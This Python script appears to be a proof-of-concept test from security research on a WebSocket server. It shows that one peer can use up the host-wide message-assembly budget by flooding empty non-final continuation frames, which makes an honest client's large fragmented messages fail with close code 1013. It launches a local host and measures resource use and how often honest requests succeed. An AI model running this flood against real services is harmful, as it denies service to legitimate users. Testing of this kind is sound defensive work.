"""Lead: one never-finished message of empty (or 1-byte) non-final continuation frames.
Each frame's header bytes (6 B masked) count as 'held' toward max_assembling_bytes though
nothing is held, so one peer can spend the host-wide budget and an honest peer's large
fragmented message then fails with 1013.
Usage: python3 frag_budget.py HOST(rust|node) MODE(flood|park) SECONDS [FRAGLEN] [BUDGET_MIB]
 flood: attacker sends frames as fast as it can for SECONDS; honest client sends 8 MiB
        fragmented messages meanwhile.
 park:  attacker sends frames worth (budget - 1 MiB) of wire then idles; honest client tries
        8 MiB messages (and 256 KiB ones) for SECONDS.
"""
import sys, os, time, threading, socket, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rt import *
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
HOST, MODE, SECS = sys.argv[1], sys.argv[2], float(sys.argv[3])
FL = int(sys.argv[4]) if len(sys.argv) > 4 else 0
BUDGET_MIB = int(sys.argv[5]) if len(sys.argv) > 5 else 256
extra = [] if BUDGET_MIB == 256 else ["--max-assembling-bytes", str(BUDGET_MIB << 20)]
p, port = start(HOST, extra=extra)
out = drain_output(p)

def honest(size, frag=65536, timeout=15):
    """One 'size' message in 'frag' fragments; returns ('ok', secs) or ('closed', code) / error."""
    try:
        s, _, rest = ws_connect(port)
    except Exception as e:
        return ("connect-failed", repr(e))
    t0 = time.time()
    data = b"z" * frag
    n = size // frag
    try:
        s.settimeout(timeout)
        for i in range(n):
            s.sendall(frame(2 if i == 0 else 0, data, fin=(i == n - 1)))
    except OSError as e:
        pass
    got = 0; buf = rest
    while True:
        r = read_frame(s, buf, timeout=timeout)
        if r is None:
            s.close(); return ("no-answer/eof", got)
        op, fin, pl, buf = r
        if op == 8:
            s.close(); return ("closed", close_code(pl)[0], round(time.time() - t0, 2))
        if op in (0, 1, 2):
            got += len(pl)
            if fin:
                s.close(); return ("ok", got, round(time.time() - t0, 2))

print(f"# {HOST} {MODE} {SECS}s fraglen {FL} budget {BUDGET_MIB} MiB", flush=True)
print("before:", status(p.pid), "honest 8MiB:", honest(8 << 20), flush=True)
att, _, arest = ws_connect(port)
att.sendall(frame(2, b"", fin=False))
one = frame(0, b"y" * FL, fin=False)
BATCH = 100000
batch = one * BATCH
sent = [0]; stop = [False]; closed = [None]
ratt = socket.socket(fileno=os.dup(att.fileno()))
def reader():
    att = ratt
    buf = arest
    while not stop[0]:
        try:
            r = read_frame(att, buf, timeout=1)
        except OSError:
            return
        if r is None:
            if stop[0]: return
            try:
                att.settimeout(0.01); c = att.recv(1)
                if c == b"": closed[0] = ("eof", round(time.time() - t0, 2)); return
            except socket.timeout: continue
            except OSError as e: closed[0] = (repr(e), round(time.time() - t0, 2)); return
            continue
        op, fin, pl, buf = r
        if op == 8:
            closed[0] = ("close", close_code(pl), round(time.time() - t0, 2)); return
def feed(limit):
    att.settimeout(30)
    try:
        while sent[0] < limit and not stop[0]:
            k = min(BATCH, limit - sent[0])
            att.sendall(batch if k == BATCH else one * k); sent[0] += k
    except OSError as e:
        print(f"attacker stopped after {sent[0]/1e6:.2f}M frames: {e!r}", flush=True)
t0 = time.time(); c0 = status(p.pid)["cpu_s"]
threading.Thread(target=reader, daemon=True).start()
if MODE == "flood":
    th = threading.Thread(target=feed, args=(10**12,), daemon=True); th.start()
else:
    target_bytes = (BUDGET_MIB << 20) + 65536 - (1 << 20)
    nframes = target_bytes // len(one)
    feed(nframes)
    print(f"parked: {sent[0]/1e6:.2f}M frames, {sent[0]*len(one)/2**20:.1f} MiB of wire in {time.time()-t0:.1f}s, host CPU {status(p.pid)['cpu_s']-c0:.2f}s, attacker closed: {closed[0]}", flush=True)
    time.sleep(1)
res = []
while time.time() - t0 < SECS:
    t1 = time.time()
    st = status(p.pid)
    big = honest(8 << 20)
    small = honest(256 << 10) if MODE == "park" else None
    st2 = status(p.pid); dt = time.time() - t0
    res.append(big[0])
    print(f"t={dt:5.1f}s attacker frames {sent[0]/1e6:7.2f}M ({sent[0]*len(one)/2**20:7.1f} MiB wire) host CPU {st2['cpu_s']-c0:6.2f}s rss {st2['rss_mib']} MiB | honest 8MiB {big} 256KiB {small} | attacker {closed[0]}", flush=True)
    time.sleep(max(0, 1 - (time.time() - t1)))
stop[0] = True
dt = time.time() - t0; st = status(p.pid)
print(f"done: {sent[0]/1e6:.2f}M frames in {dt:.1f}s = {sent[0]/dt/1e6:.2f}M frames/s; host CPU {st['cpu_s']-c0:.2f}s ({(st['cpu_s']-c0)/dt*100:.0f}% of a core); rss {st['rss_mib']} hwm {st['hwm_mib']} MiB; attacker closed {closed[0]}; honest 8 MiB ok {res.count('ok')}/{len(res)}", flush=True)
att.close(); ratt.close(); time.sleep(1)
print("after attacker left: honest 8MiB", honest(8 << 20), flush=True)
print("host log tail:", [l.decode(errors='replace').strip()[:200] for l in out[-5:]])
kill(p)
